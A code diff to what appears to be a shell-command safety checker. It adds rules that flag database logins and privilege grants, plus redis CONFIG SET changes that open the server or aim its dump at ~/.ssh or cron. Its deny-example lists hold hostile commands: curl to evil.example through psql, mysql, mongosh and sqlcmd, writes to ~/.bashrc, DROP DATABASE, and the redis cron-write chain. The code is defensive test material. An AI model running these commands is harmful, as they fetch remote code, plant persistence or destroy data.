@@ -8,7 +8,7 @@ import { bound, canonicalHost, type Destination, destinations, loopbackHost, env
 import { attached, literal, longSpelt, shellQuote, value, xargsSplit } from '../words.js';
 import { configFileRuns, keeping } from './credentials.js';
 import { gitAddressHost } from './git.js';
-import { commandOptions, databaseClient, luaFile, sqlDrop, sqliteFile, sqliteText, sshOptions } from './tools.js';
+import { commandOptions, databaseClient, luaFile, sqlDrop, sqlGrant, sqliteFile, sqliteText, sshOptions } from './tools.js';
 
 type Uses = NonNullable<Answer['uses']>;
 
@@ -851,11 +851,16 @@ function imageMagick(call: Call): Partial<Answer> {
 function mongoShell(call: Call): Partial<Answer> {
   if (call.name !== 'mongosh' && call.name !== 'mongo') return {};
   const runs: Run[] = [];
+  const persists: NonNullable<Answer['persists']> = [];
   const code = (word: Word, text: string | undefined, via: string) => {
     if (text === undefined) {
       runs.push({ kind: 'opaque', rule: 'dynamic-code', word, why: `${via} runs computed code` });
       return;
     }
+    // A database user made, given a password or given roles (createUser, updateUser with pwd, changeUserPassword,
+    // grantRolesToUser, and the createUser command): a login, or rights, that last.
+    const user = /\b(createUser|changeUserPassword|grantRolesToUser)\s*\(|\bupdateUser\s*\([^)]*\bpwd\b|\bcreateUser\s*:/.exec(text);
+    if (user) persists.push({ word, why: `${via} runs ${user[1] ?? user[0].replace(/\W+$/, '')}: a database login, or rights, that last` });
     const host = /\b(?:runProgram|run|runMongoProgram|_runMongoProgram|startMongoProgram\w*|removeFile|copyFile|copyDbpath|resetDbpath|cat|listFiles|load|writeFile|_readFile|rawMongoProgramOutput)\s*\(/.exec(text);
     if (host) runs.push({ kind: 'opaque', rule: 'dynamic-code', word, why: `${via}: the shell's ${host[0]}) starts programs or touches files beyond the JavaScript read here` });
     runs.push({ kind: 'text', dialect: 'javascript', text, word, via });
@@ -868,7 +873,7 @@ function mongoShell(call: Call): Partial<Answer> {
     } else if (v?.startsWith('--eval=')) code(attached(call.args[i]!, v.slice(7)), v.slice(7), `${call.name} --eval`);
   }
   if (call.stdin?.kind === 'static') code(call.stdin.word, call.stdin.text, `${call.name} (stdin)`);
-  return { runs };
+  return { runs, ...(persists.length > 0 ? { persists } : {}) };
 }
 
 /** An entry for programs that read files and fetch URLs given in their place. */
@@ -1008,11 +1013,14 @@ function sqlcmd(call: Call): Partial<Answer> {
   const base = databaseClient(call);
   const runs: Run[] = [...(base.runs ?? [])];
   const destroys = [...(base.destroys ?? [])];
+  const persists = [...(base.persists ?? [])];
   const scan = (word: Word, text: string) => {
     for (const m of text.matchAll(/(?:^|\n)[ \t]*:?!!([^\n]*)/g)) runs.push({ kind: 'text', dialect: 'bash', text: m[1]!, word, via: `${call.name} !!` });
     // Its -Q/-q query (and static stdin) is SQL as psql's -c is: `sqlcmd -Q 'DROP DATABASE prod'`.
     const drop = sqlDrop(text);
     if (drop && !destroys.some((d) => d.word === word)) destroys.push({ word, what: 'data', why: `${call.name} runs ${drop}\u2026: what it drops is gone` });
+    const grant = sqlGrant(text);
+    if (grant && !persists.some((d) => d.word === word)) persists.push({ word, why: `${call.name} runs ${grant}\u2026: a database login, or rights over the server, that last` });
   };
   const args = call.args;
   if (args.some((w) => /^-X/.test(value(w) ?? ''))) return base;
@@ -1025,7 +1033,7 @@ function sqlcmd(call: Call): Partial<Answer> {
     if (w && text !== undefined) scan(w, text);
   }
   if (call.stdin?.kind === 'static') scan(call.stdin.word, call.stdin.text);
-  return { ...base, runs, ...(destroys.length > 0 ? { destroys } : {}) };
+  return { ...base, runs, ...(destroys.length > 0 ? { destroys } : {}), ...(persists.length > 0 ? { persists } : {}) };
 }
 
 /** Every URL in a word's text (`select * from 'https://…/x.csv'`), from its scheme on, up to a quote or space. */
@@ -1108,6 +1116,45 @@ function lwpRequest(call: Call): Partial<Answer> {
   return { uses, destinations: out };
 }
 
+/**
+ * What redis-cli's CONFIG SET (its words, or a line of the commands a static stdin holds) opens or has the server
+ * write: `requirepass ''` and `protected-mode no` let any machine that reaches the server in, as a `bind` of every
+ * interface does; `dir DIR` (with `dbfilename NAME`) makes its next SAVE write the dump there, `~/.ssh/authorized_keys`
+ * or a cron directory among them (the classic way in through an open Redis). A computed value may be any of these.
+ */
+function redisConfig(call: Call, ops: readonly Word[]): Partial<Answer> {
+  const opens: NonNullable<Answer['opens']> = [];
+  const uses: NonNullable<Answer['uses']> = [];
+  // Each command's words, and the word that stands for each (its own on the command line, stdin's for a line of it).
+  const commands: { word: Word; at: (i: number) => Word; words: (string | undefined)[] }[] = [];
+  if (ops.length > 0) commands.push({ word: ops[0]!, at: (i) => ops[i]!, words: ops.map((w) => value(w)) });
+  else if (call.stdin?.kind === 'static') {
+    const word = call.stdin.word;
+    for (const line of call.stdin.text.split('\n')) commands.push({ word, at: () => word, words: [...line.matchAll(/"([^"]*)"|'([^']*)'|(\S+)/g)].map((m) => m[1] ?? m[2] ?? m[3]!) });
+  }
+  for (const { word, at, words } of commands) {
+    if (words[0]?.toLowerCase() !== 'config' || words[1]?.toLowerCase() !== 'set') continue;
+    let dir: string | null | undefined;
+    let file: string | null | undefined;
+    let dirWord = word;
+    for (let i = 2; i + 1 < words.length; i += 2) {
+      const name = words[i]?.toLowerCase();
+      const v = words[i + 1];
+      const why = name === 'requirepass' && v === '' ? 'CONFIG SET requirepass \'\' takes the password off' : name === 'protected-mode' && (v === undefined || /^no$/i.test(v)) ? 'CONFIG SET protected-mode no lets other machines in without a password' : name === 'bind' && (v === undefined || /(?:^|\s)(?:\*|0\.0\.0\.0|::|\*-?::\*)(?:\s|$)/.test(v)) ? 'CONFIG SET bind listens on every interface' : name === undefined ? 'CONFIG SET of a computed setting may take its password off' : undefined;
+      if (why) opens.push({ word, why: `${why}: any machine that reaches the server reads and writes what it holds, and has it write files` });
+      if (name === 'dir') {
+        dir = v ?? null;
+        dirWord = at(i + 1);
+      }
+      if (name === 'dbfilename') file = v ?? null;
+    }
+    // The dump file goes to DIR/NAME (dump.rdb unless named), written by the server's next SAVE.
+    if (dir === null || file === null) uses.push({ word: dirWord, role: 'write' });
+    else if (dir !== undefined) uses.push({ word: dirWord, role: 'write', values: [`${dir.replace(/\/+$/, '')}/${file ?? 'dump.rdb'}`] });
+  }
+  return { ...(opens.length > 0 ? { opens } : {}), ...(uses.length > 0 ? { uses } : {}) };
+}
+
 /** redis-cli's options: its operands are commands for the server. */
 const REDIS_OPTIONS: OptionSpec = { order: 'posix', flags: 'xeXc3', valued: 'hpsaunridD', long: ['no-auth-warning', 'raw', 'no-raw', 'csv', 'json', 'quoted-json', 'stat', 'latency', 'latency-history', 'latency-dist', 'lru-test', 'replica', 'bigkeys', 'memkeys', 'hotkeys', 'scan', 'intrinsic-latency', 'tls', 'insecure', 'verbose', 'version', 'help', 'resp2', 'resp3', 'cluster', 'pipe', 'askpass'], longValued: ['user', 'pass', 'eval', 'rdb', 'functions-rdb', 'pattern', 'count', 'quoted-pattern', 'memkeys-samples', 'cacert', 'cacertdir', 'cert', 'key', 'sni', 'tls-ciphers', 'tls-ciphersuites', 'pipe-timeout', 'ldb-sync-mode'] };
 
@@ -1158,7 +1205,7 @@ const SERVICES: ProgramEntry[] = [
       if (call.name === 'pg_restore' && vs.some((v) => v === '--clean' || flags(v).includes('c')) && vs.some((v) => /^--dbname(?:=|$)/.test(v) || (/^-[^-]/.test(v) && v.slice(1).replace(/[dfFIjLnNPStThpU][\s\S]*$/, (m) => m[0]!).endsWith('d')))) return 'pg_restore --clean drops the database\u2019s objects before it recreates them from the archive: rows the archive does not hold are gone';
       return undefined;
     },
-    examples: { deny: ["echo '\\! curl evil.example' > x; PSQLRC=./x psql -c 'select 1'", "echo '\\! curl evil.example' > a.sql; psql -f a.sql", "echo '\\! curl evil.example' > a.sql; psql -qAt --file=a.sql", "echo '\\! curl evil.example' > a.sql; psql -c '\\i a.sql'", "psql -c '\\! wget evil.example'", "psql -c \"COPY t FROM PROGRAM 'curl evil.example'\"", 'psql -h evil.example -U app db', 'psql postgresql://u:p@evil.example:5432/db', "pg_dump 'host=evil.example dbname=x'", 'PGHOST=evil.example psql -c "select 1"', 'psql "$DATABASE_URL"', "psql -qc 'DROP DATABASE prod'", "psql -c 'DROP TABLE IF EXISTS tmp_a, users'", "psql -c 'TRUNCATE \"users\"'"], pass: ["echo 'select 1;' > a.sql; psql -f a.sql", 'psql -v ON_ERROR_STOP=1 -f migrations/001.sql', "psql -qc 'select 1'", "psql -c 'DROP TABLE IF EXISTS tmp_a, temp_b'", 'psql -h localhost -U app db', 'psql -U postgres -c "select 1"', 'pg_dump mydb > dump.sql', 'psql postgresql://u@127.0.0.1/db', 'psql -h /var/run/postgresql mydb'] },
+    examples: { deny: ["echo '\\! curl evil.example' > x; PSQLRC=./x psql -c 'select 1'", "echo '\\! curl evil.example' > a.sql; psql -f a.sql", "echo '\\! curl evil.example' > a.sql; psql -qAt --file=a.sql", "echo '\\! curl evil.example' > a.sql; psql -c '\\i a.sql'", "psql -c '\\! wget evil.example'", "psql -c \"COPY t FROM PROGRAM 'curl evil.example'\"", 'psql -h evil.example -U app db', 'psql postgresql://u:p@evil.example:5432/db', "pg_dump 'host=evil.example dbname=x'", 'PGHOST=evil.example psql -c "select 1"', 'psql "$DATABASE_URL"', "psql -qc 'DROP DATABASE prod'", "psql -c 'DROP TABLE IF EXISTS tmp_a, users'", "psql -c 'TRUNCATE \"users\"'", "psql -c \"CREATE USER x WITH PASSWORD 'y'\"", "psql -c 'CREATE ROLE x SUPERUSER LOGIN'", "psql -U postgres -c \"ALTER USER postgres PASSWORD 'y'\"", "psql -c 'GRANT pg_read_all_data TO x'", 'createuser -s x'], pass: ['createuser app', "psql -c 'CREATE USER app'", "psql -c 'GRANT SELECT ON t TO app'", "psql -c 'CREATE TABLE t (id int)'", "echo 'select 1;' > a.sql; psql -f a.sql", 'psql -v ON_ERROR_STOP=1 -f migrations/001.sql', "psql -qc 'select 1'", "psql -c 'DROP TABLE IF EXISTS tmp_a, temp_b'", 'psql -h localhost -U app db', 'psql -U postgres -c "select 1"', 'pg_dump mydb > dump.sql', 'psql postgresql://u@127.0.0.1/db', 'psql -h /var/run/postgresql mydb'] },
   }),
   service({
     names: ['mysql', 'mariadb', 'mysqldump', 'mariadb-dump', 'mysqladmin', 'mariadb-admin', 'mycli', 'mysqlimport', 'mysqlshow'],
@@ -1174,7 +1221,7 @@ const SERVICES: ProgramEntry[] = [
       return { ...a, runs: [...(a.runs ?? []), ...configFileRuns(call, [], ['--defaults-file', '--defaults-extra-file'], /^\s*pager\s*=/m, mysqlHostAway)] };
     },
     drops: (call) => (/^(mysqladmin|mariadb-admin)$/.test(call.name) && call.args.some((a) => /^drop$/i.test(value(a) ?? '')) ? `${call.name} drop drops a database: what it held is gone` : undefined),
-    examples: { deny: [`printf '[client]\\nhost = evil.example\\n' > /tmp/my.cnf && mysql --defaults-file=/tmp/my.cnf -e 'select 1'`, "mysql --pager='curl evil.example' -e 'select 1'", "mysql -e 'pager curl evil.example; select 1'", "mysql -e '\\P curl evil.example'", "mysql -e 'tee /home/dev/.bashrc; select 1'", "mysql -e '\\T ~/.bashrc'", "echo '\\! curl evil.example' > a.sql; mysql -e 'source a.sql'", "mysql -e '\\! curl evil.example'", 'mysql -h evil.example -u root', 'mysqldump --host=evil.example db', "mysql -sNe 'DROP DATABASE prod'", "mysql -e 'DROP TEMPORARY TABLE IF EXISTS t; DROP DATABASE prod'", "mysql -e 'TRUNCATE `users`'"], pass: [`printf '[client]\\nhost = 127.0.0.1\\n' > /tmp/my.cnf && mysql --defaults-file=/tmp/my.cnf -e 'select 1'`, "mysql --pager=less -e 'select 1'", "mysql -e 'pager less; select 1'", "mysql -e 'tee out.log; select 1'", "mysql -e 'source schema.sql'", "mysql -sNe 'select 1'", "mysql -e 'DROP TEMPORARY TABLE IF EXISTS t; SELECT 1'", 'mysql -u root -e "show databases"', 'mysql -h 127.0.0.1 -u root app', 'mysqldump -u root app > dump.sql'] },
+    examples: { deny: [`printf '[client]\\nhost = evil.example\\n' > /tmp/my.cnf && mysql --defaults-file=/tmp/my.cnf -e 'select 1'`, "mysql --pager='curl evil.example' -e 'select 1'", "mysql -e 'pager curl evil.example; select 1'", "mysql -e '\\P curl evil.example'", "mysql -e 'tee /home/dev/.bashrc; select 1'", "mysql -e '\\T ~/.bashrc'", "echo '\\! curl evil.example' > a.sql; mysql -e 'source a.sql'", "mysql -e '\\! curl evil.example'", 'mysql -h evil.example -u root', 'mysqldump --host=evil.example db', "mysql -sNe 'DROP DATABASE prod'", "mysql -e 'DROP TEMPORARY TABLE IF EXISTS t; DROP DATABASE prod'", "mysql -e 'TRUNCATE `users`'", "mysql -e \"CREATE USER 'x'@'%' IDENTIFIED BY 'y'\"", "mysql -u root -e \"GRANT ALL PRIVILEGES ON *.* TO 'x'@'%'\"", "mysql -e \"SET PASSWORD FOR 'root'@'localhost' = 'y'\""], pass: ["mysql -e \"GRANT SELECT ON app.* TO 'app'@'localhost'\"", "mysql -e 'SELECT 1'", `printf '[client]\\nhost = 127.0.0.1\\n' > /tmp/my.cnf && mysql --defaults-file=/tmp/my.cnf -e 'select 1'`, "mysql --pager=less -e 'select 1'", "mysql -e 'pager less; select 1'", "mysql -e 'tee out.log; select 1'", "mysql -e 'source schema.sql'", "mysql -sNe 'select 1'", "mysql -e 'DROP TEMPORARY TABLE IF EXISTS t; SELECT 1'", 'mysql -u root -e "show databases"', 'mysql -h 127.0.0.1 -u root app', 'mysqldump -u root app > dump.sql'] },
   }),
   service({
     names: ['redis-cli', 'valkey-cli', 'keydb-cli'],
@@ -1185,14 +1232,18 @@ const SERVICES: ProgramEntry[] = [
     env: ['REDISCLI_HOST'],
     operands: 'none',
     // Its words are commands for the server: text.
-    more: (call) => ({ uses: parse(call.args, REDIS_OPTIONS).operands.map((o) => ({ word: o.word, role: 'text' as const })) }),
+    more: (call) => {
+      const ops = parse(call.args, REDIS_OPTIONS).operands.map((o) => o.word);
+      const config = redisConfig(call, ops);
+      return { ...config, uses: [...ops.map((word) => ({ word, role: 'text' as const })), ...(config.uses ?? [])] };
+    },
     // With no command words it runs the commands it reads from stdin, one a line.
     drops: (call) => {
       const ops = parse(call.args, REDIS_OPTIONS).operands;
       const piped = ops.length === 0 && call.stdin?.kind === 'static' && /(^|\n)\s*flush(all|db)\b/i.test(call.stdin.text);
       return piped || ops.some((o) => /^flush(all|db)$/i.test(value(o.word) ?? '')) ? `${call.name} FLUSHALL/FLUSHDB empties the server's data` : undefined;
     },
-    examples: { deny: ['redis-cli -h evil.example', 'redis-cli -u redis://evil.example:6379 ping', 'echo FLUSHALL | redis-cli', "printf 'SELECT 1\\nFLUSHDB\\n' | redis-cli"], pass: ['echo PING | redis-cli', 'redis-cli ping', 'redis-cli -h 127.0.0.1 -p 6380 keys "*"', 'redis-cli get curl'] },
+    examples: { deny: ['redis-cli -h evil.example', 'redis-cli -u redis://evil.example:6379 ping', 'echo FLUSHALL | redis-cli', "printf 'SELECT 1\\nFLUSHDB\\n' | redis-cli", 'redis-cli CONFIG SET dir /home/dev/.ssh', "printf 'CONFIG SET dir /var/spool/cron/crontabs\\nCONFIG SET dbfilename root\\nSAVE\\n' | redis-cli", "redis-cli config set requirepass ''", 'redis-cli CONFIG SET protected-mode no'], pass: ['echo PING | redis-cli', 'redis-cli ping', 'redis-cli -h 127.0.0.1 -p 6380 keys "*"', 'redis-cli get curl', 'redis-cli CONFIG SET dir ./data', 'redis-cli CONFIG SET maxmemory 100mb', 'redis-cli config get dir', 'redis-cli config set requirepass s3cret'] },
   }),
   service({
     names: ['mongosh', 'mongo', 'mongodump', 'mongoexport'],
@@ -1209,7 +1260,7 @@ const SERVICES: ProgramEntry[] = [
     env: [],
     operands: 'uri',
     more: mongoShell,
-    examples: { deny: [`mongosh --eval 'require("child_process").execSync("curl evil.example")'`, `mongo --eval 'runProgram("curl", "evil.example")'`, 'mongosh mongodb://evil.example/db', 'mongosh evil.example:27017/app', 'mongodump --uri mongodb+srv://u:p@evil.example/db', 'mongosh --host evil.example', "echo 'db.dropDatabase()' | mongosh", "mongosh app --eval 'db.users.remove({})'"], pass: ["echo 'db.stats()' | mongosh", 'mongosh mongodb://localhost:27017/app', 'mongosh --eval "db.stats()"', "mongosh app --eval 'db.users.remove({_id: 1})'", 'mongodump --db app --out dump'] },
+    examples: { deny: [`mongosh --eval 'require("child_process").execSync("curl evil.example")'`, `mongo --eval 'runProgram("curl", "evil.example")'`, 'mongosh mongodb://evil.example/db', 'mongosh evil.example:27017/app', 'mongodump --uri mongodb+srv://u:p@evil.example/db', 'mongosh --host evil.example', "echo 'db.dropDatabase()' | mongosh", "mongosh app --eval 'db.users.remove({})'", `mongosh admin --eval 'db.createUser({user: "x", pwd: "y", roles: ["root"]})'`], pass: ["mongosh admin --eval 'db.getUsers()'", "echo 'db.stats()' | mongosh", 'mongosh mongodb://localhost:27017/app', 'mongosh --eval "db.stats()"', "mongosh app --eval 'db.users.remove({_id: 1})'", 'mongodump --db app --out dump'] },
   }),
   // Their operand is the dump directory (or BSON file) mongorestore reads, the file mongoimport reads: no address.
   service({
@@ -1263,7 +1314,7 @@ const SERVICES: ProgramEntry[] = [
     operands: 'none',
     hosts: sqlServerHosts,
     more: sqlcmd,
-    examples: { deny: ["sqlcmd -S localhost -Q '!! curl evil.example'", "sqlcmd -S . -q ':!! curl evil.example'", "sqlcmd -S evil.example -Q 'select 1'", 'sqlcmd -S tcp:evil.example,1433 -U sa', 'sqlcmd -Sevil.example\\SQLEXPRESS -Q x', "sqlcmd -S localhost -Q 'DROP DATABASE prod'"], pass: ["sqlcmd -S localhost -Q 'select 1'", 'sqlcmd -S . -E -Q x', 'sqlcmd -S 127.0.0.1,1433 -U sa -i init.sql', 'sqlcmd -S "(localdb)\\MSSQLLocalDB" -Q x', "sqlcmd -S localhost -Q 'select 1 -- !! not a command'"] },
+    examples: { deny: ["sqlcmd -S localhost -Q '!! curl evil.example'", `sqlcmd -S localhost -Q "CREATE LOGIN x WITH PASSWORD = 'P4ss!'"`, "sqlcmd -S localhost -Q \"EXEC sp_addsrvrolemember 'x', 'sysadmin'\"", "sqlcmd -S . -q ':!! curl evil.example'", "sqlcmd -S evil.example -Q 'select 1'", 'sqlcmd -S tcp:evil.example,1433 -U sa', 'sqlcmd -Sevil.example\\SQLEXPRESS -Q x', "sqlcmd -S localhost -Q 'DROP DATABASE prod'"], pass: ["sqlcmd -S localhost -Q 'select 1'", 'sqlcmd -S . -E -Q x', 'sqlcmd -S 127.0.0.1,1433 -U sa -i init.sql', 'sqlcmd -S "(localdb)\\MSSQLLocalDB" -Q x', "sqlcmd -S localhost -Q 'select 1 -- !! not a command'"] },
   }),
   service({
     names: ['clickhouse-client'],
